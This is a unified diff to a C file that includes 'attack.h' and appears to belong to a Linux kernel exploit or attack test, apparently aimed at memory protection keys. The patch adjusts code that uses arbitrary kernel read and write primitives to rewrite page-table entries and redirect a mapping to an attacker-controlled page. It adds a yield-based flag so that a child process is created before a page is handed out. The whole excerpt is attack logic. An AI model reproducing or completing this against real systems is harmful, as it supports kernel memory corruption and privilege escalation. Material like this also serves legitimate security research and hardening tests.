@@ -9,6 +9,8 @@
  */
 #include "attack.h"
 
+#include <sched.h>
+
 #define MAX_TABLES	1600
 
 /*
@@ -238,11 +240,16 @@ struct user_memory {
 	char *tables;
 };
 
+/* words[]: the page is the next one */
+#define GO_ON	(&shared->words[0])
+
 static int use_ordinary_page(void *arg)
 {
 	struct user_memory *m = arg;
 	u64 slot;
 
+	while (!*(volatile u64 *)GO_ON)
+		sched_yield();
 	*(volatile char *)m->range = 1;
 	slot = entry_slot(leak.pgd, m->range, 2);
 	if (kernel_address(kernel_read(slot)) != address_of((void *)m->page))
@@ -262,6 +269,7 @@ static int ordinary_page(void)
 		.range = two_tables(0) + PMD_SIZE,
 	};
 	struct saved_pages saved;
+	pid_t pid;
 
 	memset(chunk, 0, PAGE_SIZE);
 	run_on_cpu(0);
@@ -280,8 +288,11 @@ static int ordinary_page(void)
 			1ULL << (lookup("kpkeys_chunk.nr_pages") & 4 ? 32 : 0);
 		kernel_write(page + mapping, address_of(chunk));
 	}
+	/* Starting a process takes memory, too. */
+	pid = start(use_ordinary_page, &m);
 	hand_out_next(page);
-	ended_well(start(use_ordinary_page, &m));
+	*(volatile u64 *)GO_ON = 1;
+	ended_well(pid);
 	restore_pages(&saved);
 	return DONE;
 }
